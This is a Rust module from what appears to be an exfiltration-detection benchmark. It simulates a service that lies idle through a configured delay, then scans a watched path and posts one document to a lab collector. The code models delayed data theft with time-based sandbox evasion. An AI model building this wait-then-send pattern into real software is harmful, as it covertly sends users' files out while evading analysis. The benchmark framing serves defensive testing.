//! The service lies still for two days, then sends a document. ExfilBench H01, H09; ATT&CK T1029,
//! T1497.003.
//!
//! The service looks at the clock between sleeps, all through the C library. When the delay of the
//! seed is over, it walks what it watches and posts a document, once. The twin idles without a
//! network.

use std::path::Path;
use std::time::Duration;

use super::{Conduct, Loot, Trouble};
use crate::document::Sort;
use crate::lab::Lab;
use crate::scanner::{Database, scan};
use crate::send;

/// Waits and sends.
#[derive(Debug)]
struct Misdeed {
    loot: Loot,
    done: bool,
}

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed { loot: Loot::new(lab, Sort::Document), done: false })
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.loot.offer(path, content);
    }

    fn idled(&mut self, elapsed: Duration) -> Result<(), Trouble> {
        let configuration = self.loot.lab.configuration().clone();
        let delay = Duration::from_secs(u64::from(configuration.parameters.delay_hours) * 3600);
        let Some(watch) = configuration.watch.filter(|_| !self.done && elapsed >= delay) else {
            return Ok(());
        };
        self.done = true;
        scan(&Database::default(), &[watch], self, &mut std::io::sink())?;
        let collector = self.loot.lab.collector()?;
        let path = &configuration.parameters.path;
        Ok(send::post(&collector, path, &[], &self.loot.document()?.content)?)
    }
}
